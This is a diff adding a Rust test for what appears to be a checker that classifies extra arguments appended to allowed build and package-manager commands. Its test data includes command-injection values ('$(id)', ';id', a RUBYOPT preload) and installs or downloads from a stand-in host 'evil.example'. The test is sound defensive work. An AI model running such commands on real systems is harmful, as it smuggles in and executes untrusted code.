@@ -122,3 +122,83 @@ fn harmful_calls_are_found() {
     }
     assert_eq!(wrong, Vec::<String>::new());
 }
+
+#[test]
+fn a_rule_for_one_target_or_package_means_no_other() {
+    let mut wrong = Vec::new();
+    for (line, expected) in [
+        ("make test : deploy", "Unlisted"),
+        ("make test : -k deploy", "Unlisted"),
+        ("make test : CI=1 -j4", "-"),
+        ("make CI=1 : test", "-"),
+        ("make : test deploy", "-"),
+        ("make : $(id)", "Code"),
+        ("just test : deploy", "Unlisted"),
+        ("just : test deploy", "-"),
+        ("just test : ;id", "Code"),
+        ("task test : deploy", "Unlisted"),
+        ("task test : -- -v", "-"),
+        ("task test : -- ;id", "Code"),
+        ("rake test : deploy", "Unlisted"),
+        ("rake : RUBYOPT=-r/tmp/x test", "Code"),
+        ("rake : test[a]", "-"),
+        ("ninja test : deploy", "Unlisted"),
+        ("mvn test : deploy", "Unlisted"),
+        ("mvn test : exec:exec", "Unlisted"),
+        ("mvn test : -q -ntp", "-"),
+        ("gradle test : publish", "Unlisted"),
+        ("./gradlew test : publish", "Unlisted"),
+        ("gradle test : --tests A --offline", "-"),
+        ("ant test : deploy", "Unlisted"),
+        ("sbt test : publish", "Unlisted"),
+        ("zig build test : deploy", "Unlisted"),
+        ("bazel test //a : //b", "Unlisted"),
+        ("bazel test : //a //b", "-"),
+        ("turbo run test : deploy", "Unlisted"),
+        ("turbo run : test", "-"),
+        ("nx run-many -t test : deploy", "Unlisted"),
+        ("nx test : web", "-"),
+        ("run-s test : deploy", "Unlisted"),
+        ("pip install -r requirements.txt : ./evil", "Unlisted"),
+        ("pip install -r requirements.txt : https://evil.example/x.whl", "Unlisted"),
+        ("pip install -r requirements.txt : -r evil.txt", "Unlisted"),
+        ("pip install -r requirements.txt : -revil.txt", "Unlisted"),
+        ("pip install -r requirements.txt : --requirement=evil.txt", "Unlisted"),
+        ("pip install -r requirements.txt : -c evil.txt", "Unlisted"),
+        ("pip install -r requirements.txt : -e ./evil", "Unlisted"),
+        ("pip install -r requirements.txt : --no-deps -q", "-"),
+        ("pip install requests : -r evil.txt", "Unlisted"),
+        ("pip install -r : requirements.txt", "-"),
+        ("pip install -r : requirements.txt -r evil.txt", "Unlisted"),
+        ("pip install : requests rich", "-"),
+        ("uv pip install -r requirements.txt : ./evil", "Unlisted"),
+        ("uv pip : install ./evil", "Changes"),
+        ("npm install lodash : evil", "Unlisted"),
+        ("npm install : lodash", "-"),
+        ("pnpm add lodash : evil", "Unlisted"),
+        ("yarn add lodash : evil", "Unlisted"),
+        ("yarn add : lodash react", "-"),
+        ("cargo install ripgrep : evil", "Unlisted"),
+        ("go install ./cmd/x : evil.example/x@latest", "Unlisted"),
+        ("apt install jq : evil", "Unlisted"),
+        ("brew install jq : evil", "Unlisted"),
+        ("gem install rake : evil", "Unlisted"),
+        ("poetry add requests : evil", "Unlisted"),
+        ("pipenv install requests : evil", "Unlisted"),
+        ("pipx install black : evil", "Unlisted"),
+        ("composer require a/b : evil/x", "Unlisted"),
+        ("wget https://a.example/x : https://evil.example/x", "Unlisted"),
+        ("wget https://a.example/x : -q", "-"),
+        ("wget : -q https://a.example/x https://b.example/x", "-"),
+        ("http GET : https://a.example/x", "-"),
+        ("http GET https://a.example/x : a=b", "Unlisted"),
+        ("http localhost:3000 : a=b", "Unlisted"),
+        ("aria2c https://a.example/x : https://evil.example/x", "Unlisted"),
+    ] {
+        let found = effect(line).unwrap_or_else(|| "-".to_owned());
+        if found != expected {
+            wrong.push(format!("{line} = {found}"));
+        }
+    }
+    assert_eq!(wrong, Vec::<String>::new());
+}
